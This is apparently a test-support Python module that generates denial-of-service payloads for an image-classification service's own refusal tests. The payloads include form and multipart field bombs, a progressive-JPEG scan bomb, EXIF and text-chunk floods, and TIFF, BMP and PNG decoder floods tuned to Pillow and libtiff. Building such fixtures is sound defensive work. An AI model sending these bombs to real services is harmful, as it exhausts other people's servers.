"""Hostile payloads that are cheap to send and expensive to receive, built here from nothing (no downloads).

Each one stood for a finding of the hostile-traffic review: a form-field bomb for TorchServe's Netty decoder,
a multipart part bomb, a progressive JPEG with thousands of scans, a 40 MP JPEG near the size cap, a float
TIFF that inflates in memory, formats the page never promised (JPEG 2000, PSD, EPS). stress/attacks.py sends
them to a running stack; tests use them to check each refusal.
"""
from __future__ import annotations

import io
import struct
import zlib

import numpy as np
from PIL import Image

from stack.settings import torchserve_config

# The service's body cap: the bombs are built to fit just under it, where they are most dangerous.
MAX_BODY = int(torchserve_config("max_request_size"))


def form_field_bomb(size: int = MAX_BODY - 1) -> bytes:
    """`a=&a=&...`: about 3.5 million empty fields in 10 MiB (url-encoded form body)."""
    return (b"a=&" * (size // 3 + 1))[:size]


def multipart_part_bomb(parts: int = 150_000, boundary: str = "b0undary") -> tuple[bytes, str]:
    """A multipart body of many empty fields (about 9 MiB for 150,000); returns (body, Content-Type)."""
    one = f'--{boundary}\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'.encode()
    return one * parts + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def _segments(jpeg: bytes) -> list[tuple[int, int]]:
    """(start, end) of each marker segment of a JPEG, entropy-coded data included in its SOS segment."""
    from skinmodel.formats import _NEXT_MARKER  # the same marker grammar as the service's own scan counter

    out, pos = [], 2
    while pos < len(jpeg) - 1:
        marker = jpeg[pos + 1]
        if marker == 0xD9:
            break
        end = pos + 2 + int.from_bytes(jpeg[pos + 2:pos + 4], "big")
        if marker == 0xDA:
            end = _NEXT_MARKER.search(jpeg, end).start()
        out.append((pos, end))
        pos = end
    return out


def progressive_scan_bomb(side: int = 6000, scans: int = 10_000) -> bytes:
    """A side x side progressive JPEG whose first AC scan is repeated until the file has `scans` scans.
    Each repeat is a few bytes (the image is flat, so the scan is one long end-of-band run) but makes the
    decoder walk every block again: the cost grows with side^2 x scans, the file barely grows."""
    buf = io.BytesIO()
    Image.new("RGB", (side, side), (180, 120, 100)).save(buf, "JPEG", progressive=True, quality=90)
    jpeg = buf.getvalue()
    sos = [(a, b) for a, b in _segments(jpeg) if jpeg[a + 1] == 0xDA]
    start, end = sos[1]  # libjpeg's script: the DC scan first, then a luminance AC scan
    return jpeg[:end] + jpeg[start:end] * max(0, scans - len(sos)) + jpeg[end:]


def large_jpeg(megapixels: float = 40, max_bytes: int = MAX_BODY - 1, seed: int = 0) -> bytes:
    """A noisy 4:3 JPEG of about `megapixels` whose file size sits just under max_bytes."""
    width = int((megapixels * 1e6 * 4 / 3) ** 0.5)
    height = int(megapixels * 1e6 / width)
    rng = np.random.default_rng(seed)
    img = Image.fromarray(rng.integers(0, 255, (height // 4, width // 4, 3), dtype=np.uint8)).resize(
        (width, height), Image.BILINEAR)
    best = b""
    for quality in (40, 55, 65, 70, 75):
        buf = io.BytesIO()
        img.save(buf, "JPEG", quality=quality)
        if buf.tell() > max_bytes:
            break
        best = buf.getvalue()
    return best


def float_tiff(side: int = 5400) -> bytes:
    """A mode-F (32-bit float) TIFF of side x side zeros, deflate-compressed to a few hundred KB."""
    buf = io.BytesIO()
    Image.new("F", (side, side), 0.0).save(buf, "TIFF", compression="tiff_deflate")
    return buf.getvalue()


def png_with_size(width: int, height: int) -> bytes:
    """A real, fully decodable PNG of width x height black pixels (zlib shrinks it to a few KB per MP)."""
    row = b"\x00" + b"\x00" * (3 * width)
    raw = zlib.compress(row * height, 9)

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", raw) + chunk(b"IEND", b""))


def unpromised_formats() -> dict[str, bytes]:
    """Formats Pillow can open but the page does not list: each must be refused before decoding."""
    img = Image.new("RGB", (64, 48), (200, 100, 50))
    out = {}
    for fmt in ("JPEG2000", "PSD_like_GIF", "ICO", "PCX", "TGA", "PPM", "EPS_header", "GIF"):
        buf = io.BytesIO()
        if fmt == "EPS_header":  # never rendered: Ghostscript must not be reached
            out[fmt] = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 48\nshowpage\n"
            continue
        if fmt == "PSD_like_GIF":
            out["PSD"] = b"8BPS\x00\x01" + b"\x00" * 6 + struct.pack(">HIIHH", 3, 48, 64, 8, 3) + b"\x00" * 64
            continue
        try:
            img.save(buf, fmt)
        except (KeyError, OSError):  # an encoder this Pillow build lacks
            continue
        out[fmt] = buf.getvalue()
    return out


# ---- Decoder bombs whose cost grew with something other than the decoded image (issue 23, item 1) ----

def _png_chunk(tag: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)


def _png(width: int, height: int, ancillary: list[tuple[bytes, bytes]]) -> bytes:
    """A small black RGB PNG with the given ancillary chunks placed before its image data."""
    raw = zlib.compress((b"\x00" + b"\x00" * (3 * width)) * height, 9)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + b"".join(_png_chunk(t, d) for t, d in ancillary) + _png_chunk(b"IDAT", raw) + _png_chunk(b"IEND", b""))


def exif_blob(orientation: int = 6, filler_bytes: int = 8 * 2**20) -> bytes:
    """A big-endian TIFF-structured EXIF block: IFD0 holds Orientation and one SHORT array of filler_bytes
    (re-serialising it tag by tag is what cost exif_transpose seconds)."""
    count = filler_bytes // 2
    ifd = struct.pack(">H", 2) + struct.pack(">HHIHH", 0x0112, 3, 1, orientation, 0)
    ifd += struct.pack(">HHII", 0x0214, 3, count, 8 + 2 + 2 * 12 + 4)  # ReferenceBlackWhite, far too long
    return b"MM\x00*" + struct.pack(">I", 8) + ifd + struct.pack(">I", 0) + b"\x00\x07" * count


def png_exif_bomb(filler_bytes: int = 8 * 2**20, orientation: int = 6) -> bytes:
    """A 64x64 PNG whose eXIf chunk is filler_bytes long and says 'rotate'."""
    return _png(64, 64, [(b"eXIf", exif_blob(orientation, filler_bytes))])


def webp_exif_bomb(filler_bytes: int = 8 * 2**20, orientation: int = 6) -> bytes:
    """A 64x64 WebP whose EXIF chunk is filler_bytes long and says 'rotate'."""
    buf = io.BytesIO()
    Image.new("RGB", (64, 64), (90, 60, 40)).save(buf, "WEBP", exif=exif_blob(orientation, filler_bytes))
    return buf.getvalue()


def png_text_bomb(chunks: int = 16, chunk_bytes: int = 2**20) -> bytes:
    """A 64x64 PNG carrying `chunks` zTXt chunks that each inflate to chunk_bytes of text."""
    text = zlib.compress(b"a" * (chunk_bytes - 64), 9)
    return _png(64, 64, [(b"zTXt", b"k%d\x00\x00" % i + text) for i in range(chunks)])


def png_chunk_flood(size: int = MAX_BODY - 1) -> bytes:
    """A 1x1 PNG with its image data split into ~870,000 empty IDAT chunks (12 bytes each)."""
    head = _png(1, 1, [])
    idat = _png_chunk(b"IDAT", b"")
    end = _png_chunk(b"IEND", b"")
    flood = idat * ((size - len(head)) // len(idat))
    return head[:-len(end)] + flood + end


def jpeg_marker_flood(size: int = MAX_BODY - 1, filler: bytes = b"\xff\xfe\x00\x02") -> bytes:
    """A 16x16 JPEG whose start-of-image is followed by ~10 MiB of filler before its own segments: by default
    ~2.6 million empty COM segments; b"\\xff" makes it fill bytes, which Pillow's parser also steps over one by one."""
    buf = io.BytesIO()
    Image.new("RGB", (16, 16), (120, 80, 60)).save(buf, "JPEG")
    jpeg = buf.getvalue()
    return jpeg[:2] + filler * ((size - len(jpeg)) // len(filler)) + jpeg[2:]


def _mpf_segment() -> bytes:
    """The APP2 "MPF" segment of a real two-frame MPO file written by Pillow."""
    buf = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), c) for c in ((1, 2, 3), (4, 5, 6))]
    frames[0].save(buf, "MPO", save_all=True, append_images=frames[1:])
    mpo = buf.getvalue()
    start = mpo.index(b"\xff\xe2")
    while mpo[start + 4:start + 8] != b"MPF\x00":
        start = mpo.index(b"\xff\xe2", start + 2)
    return mpo[start:start + 2 + int.from_bytes(mpo[start + 2:start + 4], "big")]


def mpo_scan_bomb(side: int = 6000, scans: int = 10_000) -> bytes:
    """progressive_scan_bomb with an APP2 "MPF" segment after its SOI: Pillow opens it as format MPO."""
    jpeg = progressive_scan_bomb(side, scans)
    return jpeg[:2] + _mpf_segment() + jpeg[2:]


def bmp_rle_bomb(width: int = 20_000, height: int = 2000, rle4: bool = False) -> bytes:
    """A width x height 8-bit (or 4-bit) RLE BMP of about 9 KB: per row one one-pixel run and an end-of-line
    code, which Pillow's pure-Python decoder pads with zeros one byte at a time (width x height steps)."""
    bits, colours = (4, 16) if rle4 else (8, 256)
    body = b"\x01\x07\x00\x00" * height + b"\x00\x01"
    offset = 14 + 40 + 4 * colours
    header = b"BM" + struct.pack("<IHHI", offset + len(body), 0, 0, offset)
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, 2 if rle4 else 1, len(body), 2835, 2835,
                       colours, 0)
    palette = b"".join(struct.pack("<BBBB", i, i, i, 0) for i in range(colours))
    return header + info + palette + body


def tiff_strip_flood(strips: int = 1_300_000) -> bytes:
    """A 1x2 raw TIFF (one row per strip) whose StripOffsets/StripByteCounts list `strips` strips instead of 2,
    all pointing at the same byte: Pillow makes a tile of each and decodes them one by one."""
    entries = [(256, 4, 1, 1), (257, 4, 1, 2), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, strips, None), (277, 3, 1, 1), (278, 4, 1, 1), (279, 4, strips, None)]
    ifd_end = 8 + 2 + 12 * len(entries) + 4
    pixel, offsets_at, counts_at = ifd_end, ifd_end + 2, ifd_end + 2 + 4 * strips
    ifd = struct.pack("<H", len(entries))
    for tag, typ, count, value in entries:
        if value is None:
            value = offsets_at if tag == 273 else counts_at
        ifd += (struct.pack("<HHII", tag, typ, count, value) if typ == 4
                else struct.pack("<HHIHH", tag, typ, count, value, 0))
    return (b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0) + b"\x80\x00"
            + struct.pack("<I", pixel) * strips + struct.pack("<I", 1) * strips)


def tiff_tiny_tiles(side: int = 6300, tile: int = 16) -> bytes:
    """A side x side 1-bit uncompressed TIFF in tile x tile tiles (155,000 for 40 MP), all pointing at the same
    32 bytes: a legal file whose tiles Pillow decodes one by one in Python (1.5 s for 1.2 MB)."""
    n = (-(-side // tile)) ** 2
    tile_bytes = tile * tile // 8
    entries = [(256, 4, 1, side), (257, 4, 1, side), (258, 3, 1, 1), (259, 3, 1, 1), (262, 3, 1, 1),
               (277, 3, 1, 1), (322, 4, 1, tile), (323, 4, 1, tile), (324, 4, n, None), (325, 4, n, None)]
    pixels = 8 + 2 + 12 * len(entries) + 4
    ifd = struct.pack("<H", len(entries))
    for tag, typ, count, value in entries:
        value = {324: pixels + tile_bytes, 325: pixels + tile_bytes + 4 * n}.get(tag, value)
        ifd += (struct.pack("<HHII", tag, typ, count, value) if typ == 4
                else struct.pack("<HHIHH", tag, typ, count, value, 0))
    return (b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0) + b"\x55" * tile_bytes
            + struct.pack("<I", pixels) * n + struct.pack("<I", tile_bytes) * n)


def tiff_jpeg_scan_bomb(side: int = 6300, scans: int = 99) -> bytes:
    """A side x side YCbCr TIFF whose one strip is progressive_scan_bomb's JPEG stream (compression 7).
    libtiff stops at 100 scans by itself; 99 cost half a second of a 40 MP image."""
    jpeg = progressive_scan_bomb(side, scans)
    entries = [(256, 4, 1, side), (257, 4, 1, side), (258, 3, 3, None), (259, 3, 1, 7), (262, 3, 1, 6),
               (273, 4, 1, None), (277, 3, 1, 3), (278, 4, 1, side), (279, 4, 1, len(jpeg))]
    bits_at = 8 + 2 + 12 * len(entries) + 4
    ifd = struct.pack("<H", len(entries))
    for tag, typ, count, value in entries:
        value = {258: bits_at, 273: bits_at + 6}.get(tag, value)
        ifd += (struct.pack("<HHII", tag, typ, count, value) if typ == 4 or count > 1
                else struct.pack("<HHIHH", tag, typ, count, value, 0))
    return b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0) + struct.pack("<HHH", 8, 8, 8) + jpeg


def decoder_bombs(small: bool = False) -> dict[str, bytes]:
    """Issue 23's decoder bombs (each cost a worker seconds, gigabytes or its life before): name -> payload.
    Each must be refused before decoding. small=True builds the scan bomb at 2000 px (seconds cheaper to make,
    the same construction)."""
    side = 2000 if small else 6000
    return {"mpo_scan_bomb": mpo_scan_bomb(side), "png_400000x1": png_with_size(400_000, 1),
            "png_1x400000": png_with_size(1, 400_000), "png_exif_8mb": png_exif_bomb(),
            "webp_exif_8mb": webp_exif_bomb(), "png_idat_flood": png_chunk_flood(),
            "jpeg_com_flood": jpeg_marker_flood(),
            "jpeg_fill_flood": jpeg_marker_flood(filler=b"\xff"), "tiff_strip_flood": tiff_strip_flood(),
            "bmp_rle8": bmp_rle_bomb(), "bmp_rle4": bmp_rle_bomb(rle4=True),
            "tiff_jpeg_scan_bomb": tiff_jpeg_scan_bomb(side, 99), "png_text_flood": png_text_bomb(20),
            "tiff_tiny_tiles": tiff_tiny_tiles()}
